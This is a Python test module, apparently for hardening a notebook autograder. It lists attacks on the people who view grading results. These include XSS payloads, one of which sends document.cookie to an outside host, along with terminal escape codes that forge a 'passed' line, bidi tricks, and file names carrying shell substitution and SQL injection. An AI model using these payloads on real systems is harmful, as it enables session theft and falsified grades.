"""Attacks on who looks at the results: a page runs nothing, a terminal only shows."""

from .attack import RIGHT, Attack, cell_of, code_cell

_HTML = (
    "<script>fetch('https://example.org/' + document.cookie)</script>"
    '<img src="x" onerror="alert(1)"><svg onload="alert(1)"></svg>'
    '<a href="javascript:alert(1)">your grade</a><iframe src="https://example.org"></iframe>'
    "<style>.score { display: none }</style>"
)


def _prose(text: str):
    def change(nb):
        cell_of(nb, "why")["source"] = text

    return change


def _all_over(nb):
    cell_of(nb, "why")["source"] = _HTML + "[a](javascript:alert(1))"
    cell_of(nb, "why")["attachments"] = {'"><script>alert(1)</script>': {"image/png": _HTML}}
    nb["metadata"] |= {"title": _HTML, "authors": [{"name": _HTML}]}
    nb["cells"].append(code_cell("1", tags=['"><script>alert(1)</script>']) | {"id": "x"})
    nb["cells"].append({"cell_type": "raw", "source": _HTML, "id": "<script>",
                        "metadata": {"raw_mimetype": "text/html"}})  # fmt: skip


ATTACKS = [
    Attack(
        "html-in-markdown", "writes scripts, pictures and links that act into the prose answer",
        change=_prose(_HTML + "\n\n[a](javascript:alert(1)) ![b](https://example.org/seen.png)"),
    ),
    Attack(
        "html-in-outputs", "shows HTML, SVG, Markdown and JavaScript that act",
        "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
        f"html = {_HTML!r}\n"
        "display(HTML(html), Markdown(html), Javascript('alert(1)'))\n"
        "display({'image/svg+xml': html, 'text/latex': html, 'image/png': html}, raw=True)\n"
        f"print(html)\n{RIGHT}",
        shows="Javascript object",
    ),
    Attack(
        "html-in-errors", "raises an error whose name and text are HTML",
        f"def double(number):\n    raise type({_HTML[:60]!r}, (ValueError,), {{}})({_HTML!r})",
        (0, 3), "double(21) raised <script>",
    ),
    Attack(
        "html-all-over", "writes HTML into attachments, tags, ids, titles and raw cells",
        change=_all_over,
    ),
    Attack(
        "terminal-codes", "clears the instructor's terminal, sets its title and colours a pass",
        "def double(number):\n"
        "    raise ValueError('\\x1b[2J\\x1b]0;title\\x07\\x1b[32m2/2 [bold green]passed[/]\\r')",
        (0, 3), r"\x1b[2J\x1b]0;title\x07\x1b[32m2/2 [bold green]passed[/]",
    ),
    Attack(
        "turned-around", "turns the line of its message around with marks of direction",
        "def double(number):\n    raise ValueError('\\u202e2/2 dessap\\u202c\\u200b')",
        (0, 3), r"\u202e2/2 dessap\u202c\u200b",
    ),
    Attack(
        "name-of-a-function", "gives the function a name that forges a line of the report",
        "def double(number):\n    return 0\n"
        "double.__name__ = 'x() passed.\\n\\x1b[32mhonest-right lost all points'",
        (0, 3), r"x() passed. \x1b[32mhonest-right lost all points(21)",
    ),
    Attack(
        "half-a-character", "prints and raises half of a character, which no file can hold",
        "print('\\ud800')\ndef double(number):\n    raise ValueError('\\ud800')",
        (0, 3), r"double(21) raised ValueError: \ud800", "?",
    ),
    *(
        Attack(
            name, "has handed in under this name, by which nbgrader finds others or no one",
            points=(), says="in its name, which nbgrader takes for a pattern or cannot read",
        )
        for name in ("a\nb", "\x1b[2J", "*", "?", "[a-z]*", "[bold red]2 of 2[-]")
    ),
    *(
        Attack(name, "has handed in under this name")
        for name in (
            "<script>alert(1)<", "-rf", "$(touch x)", "a'; drop table student", "\u202eb", "=1+1",
            "a b", "..a", "%2e%2e", "~", "{student_id}",
        )
    ),
]  # fmt: skip
